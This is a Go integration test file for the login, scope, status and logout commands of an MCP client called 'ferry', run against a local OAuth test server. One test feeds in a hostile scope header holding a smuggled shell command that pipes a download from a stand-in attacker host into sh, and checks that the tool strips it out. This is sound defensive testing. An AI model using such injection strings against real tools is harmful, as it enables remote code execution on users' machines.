package cli_test

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/ferrymcp/ferry/auth"
	"github.com/ferrymcp/ferry/auth/authserver"
	"github.com/ferrymcp/ferry/httpserver"
)

const passphrase = "correct horse battery staple"

// A club is a server that lets only members in, with its authorization server.
type club struct {
	endpoint string
	down     atomic.Bool // the token endpoint answers 503
	refused  atomic.Int64
	issued   atomic.Int64
}

// newClub opens a club whose access tokens last so long.
func newClub(t *testing.T, life time.Duration) *club {
	t.Helper()
	web := httptest.NewUnstartedServer(nil)
	origin := "http://" + web.Listener.Addr().String()
	c := &club{endpoint: origin + "/mcp"}
	issuer, err := authserver.New(authserver.Options{
		Issuer: origin, Resources: []string{c.endpoint}, Passphrase: passphrase, TokenLife: life,
		Scopes: []authserver.Scope{{Name: "notes", Description: "Read your notes"}, {Name: "notes:write", Description: "Add notes"}},
		Clients: []authserver.Client{
			{ID: "registered", Secret: "a secret of the client", RedirectURIs: []string{"http://127.0.0.1/callback"}},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	verifier, err := auth.NewJWT(origin, &auth.JWTOptions{Skew: time.Nanosecond})
	if err != nil {
		t.Fatal(err)
	}
	resource, err := auth.New(c.endpoint, []auth.Verifier{verifier}, &auth.Options{
		Scopes: []string{"notes"}, Tools: map[string][]string{"structured": {"notes:write"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.Handle("/", issuer)
	mux.HandleFunc("POST /token", func(w http.ResponseWriter, r *http.Request) {
		if c.down.Load() {
			c.refused.Add(1)
			w.WriteHeader(http.StatusServiceUnavailable)
			return
		}
		c.issued.Add(1)
		issuer.ServeHTTP(w, r)
	})
	mux.Handle("/mcp", resource.Handler(httpserver.New(newDemo(), nil)))
	mux.Handle(resource.MetadataPath(), resource.Metadata())
	web.Config.Handler = mux
	web.Start()
	t.Cleanup(web.Close)
	return c
}

// A home is a user's machine without a keyring.
type home struct {
	dir string
	env []string
}

func newHome(t *testing.T) *home {
	t.Helper()
	dir := t.TempDir()
	return &home{dir: dir, env: []string{
		"HOME=" + dir, "XDG_CONFIG_HOME=" + filepath.Join(dir, "config"), "AppData=" + filepath.Join(dir, "config"), "TZ=UTC",
		"DBUS_SESSION_BUS_ADDRESS=", "XDG_RUNTIME_DIR=", "DISPLAY=", "WAYLAND_DISPLAY=", "FERRY_KEYRING=off",
	}}
}

// A printed is what a command has written, and how it has ended.
type printed struct {
	out, err string
	code     int
}

// ferry runs the program to its end.
func (h *home) ferry(t *testing.T, stdin string, args ...string) printed {
	t.Helper()
	cmd := h.command(t, args...)
	var out, errs strings.Builder
	cmd.Stdin, cmd.Stdout, cmd.Stderr = strings.NewReader(stdin), &out, &errs
	_ = cmd.Run()
	return printed{out.String(), errs.String(), cmd.ProcessState.ExitCode()}
}

func (h *home) command(t *testing.T, args ...string) *exec.Cmd {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
	t.Cleanup(cancel)
	cmd := exec.CommandContext(ctx, "ferry", args...)
	cmd.Env = append(cmd.Environ(), h.env...)
	cmd.Dir = h.dir
	return cmd
}

// login runs ferry login, and signs in with the browser of a user.
func (h *home) login(t *testing.T, args ...string) printed {
	t.Helper()
	cmd := h.command(t, append([]string{"login"}, args...)...)
	var out strings.Builder
	cmd.Stdout = &out
	errs, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var said strings.Builder
	var browsing sync.WaitGroup
	for s := bufio.NewScanner(errs); s.Scan(); {
		said.WriteString(s.Text() + "\n")
		if page := strings.TrimSpace(s.Text()); strings.HasPrefix(page, "http://") {
			browsing.Go(func() { signIn(t, page, true) })
		}
	}
	browsing.Wait()
	_ = cmd.Wait()
	return printed{out.String(), said.String(), cmd.ProcessState.ExitCode()}
}

var (
	hidden = regexp.MustCompile(`<input type="?hidden"? name="?([^" >]+)"? value="?([^" >]*)"?`)
	action = regexp.MustCompile(`action="([^"]*)"`)
)

// signIn visits the pages of a login as a user with a browser does, and returns the
// URL at which it ends. The last page, at the program, is visited only if follow is
// set.
func signIn(t *testing.T, page string, follow bool) string {
	jar, _ := cookiejar.New(nil)
	browser := &http.Client{Jar: jar, CheckRedirect: func(r *http.Request, _ []*http.Request) error {
		if strings.HasSuffix(r.URL.Path, "/callback") && !follow {
			return http.ErrUseLastResponse
		}
		return nil
	}}
	res, err := browser.Get(page)
	for range 5 {
		if err != nil {
			t.Error(err)
			return ""
		}
		body, _ := io.ReadAll(res.Body)
		_ = res.Body.Close()
		if location := res.Header.Get("Location"); location != "" {
			return location
		}
		if strings.HasSuffix(res.Request.URL.Path, "/callback") {
			if !strings.Contains(string(body), "logged in") {
				t.Errorf("the last page: got %s", body)
			}
			return res.Request.URL.String()
		}
		form := url.Values{"passphrase": {passphrase}, "decision": {"allow"}}
		for _, m := range hidden.FindAllStringSubmatch(string(body), -1) {
			form.Set(m[1], html.UnescapeString(m[2]))
		}
		target := res.Request.URL
		if m := action.FindStringSubmatch(string(body)); m != nil && m[1] != "" {
			if target, err = target.Parse(html.UnescapeString(m[1])); err != nil {
				t.Error(err)
				return ""
			}
		}
		res, err = browser.PostForm(target.String(), form)
	}
	t.Errorf("the login at %s does not end", page)
	return ""
}

// TestLogin goes from a refusal to a login, and back.
func TestLogin(t *testing.T) {
	t.Parallel()
	c, h := newClub(t, 0), newHome(t)

	got := h.ferry(t, "", "call", c.endpoint, "steps")
	want := fmt.Sprintf("ferry: %s needs a login\nRun \"ferry login %[1]s\" first.\n", c.endpoint)
	if got.code != 5 || got.err != want {
		t.Fatalf("a call without a login: got %+v, want code 5 and %q", got, want)
	}
	if got := h.ferry(t, "", "auth", "status", c.endpoint); got.code != 5 || !strings.Contains(got.out, "not logged in") {
		t.Errorf("status without a login: got %+v", got)
	}
	if got = h.login(t, c.endpoint); got.code != 0 || !strings.Contains(got.out, "Logged in at "+c.endpoint) {
		t.Fatalf("login: got %+v", got)
	}
	if got := h.ferry(t, "", "call", c.endpoint, "steps"); got.code != 0 || !strings.Contains(got.out, "done") {
		t.Errorf("a call with a login: got %+v", got)
	}

	// More scopes than were granted.
	got = h.ferry(t, "", "call", c.endpoint, "structured")
	if got.code != 5 || !strings.Contains(got.err, "--scope notes:write") {
		t.Fatalf("a call that needs more: got %+v", got)
	}
	if got = h.login(t, c.endpoint, "--scope", "notes:write"); got.code != 0 {
		t.Fatalf("login for more: got %+v", got)
	}
	if got := h.ferry(t, "", "call", c.endpoint, "structured"); got.code != 0 {
		t.Errorf("a call that needed more: got %+v", got)
	}

	got = h.ferry(t, "", "auth", "status", "--json")
	var status struct{ Logins []map[string]any }
	if err := json.Unmarshal([]byte(got.out), &status); err != nil || got.code != 0 || len(status.Logins) != 1 {
		t.Fatalf("status: got %+v, %v", got, err)
	}
	login := status.Logins[0]
	if login["endpoint"] != c.endpoint || login["state"] != "good" || login["refreshable"] != true || login["expires"] == "" {
		t.Errorf("status: got %v", login)
	}

	if got := h.ferry(t, "", "logout", c.endpoint); got.code != 0 || !strings.Contains(got.out, "Logged out") {
		t.Errorf("logout: got %+v", got)
	}
	if got := h.ferry(t, "", "call", c.endpoint, "steps"); got.code != 5 {
		t.Errorf("a call after the logout: got %+v, want code 5", got)
	}
	if got := h.ferry(t, "", "logout", c.endpoint); got.code != 0 || !strings.Contains(got.out, "no login") {
		t.Errorf("second logout: got %+v", got)
	}
	if got := h.ferry(t, "", "auth", "status"); got.code != 0 || !strings.Contains(got.out, "not logged in anywhere") {
		t.Errorf("status in the end: got %+v", got)
	}
}

// TestHostileScopes has a server that hopes for somebody who copies what ferry says
// into a shell.
func TestHostileScopes(t *testing.T) {
	t.Parallel()
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("WWW-Authenticate", `Bearer error="insufficient_scope", scope="notes:write x;curl${IFS}evil.example|sh $(calc) ' &calc -x"`)
		w.WriteHeader(http.StatusForbidden)
	}))
	t.Cleanup(evil.Close)
	endpoint := evil.URL + "/mcp"
	got := newHome(t).ferry(t, "", "call", endpoint, "steps")
	want := fmt.Sprintf("Run \"ferry login %s --scope notes:write\" first.\n", endpoint)
	if got.code != 5 || !strings.HasSuffix(got.err, want) {
		t.Errorf("got %+v, want code 5 and %q", got, want)
	}
}
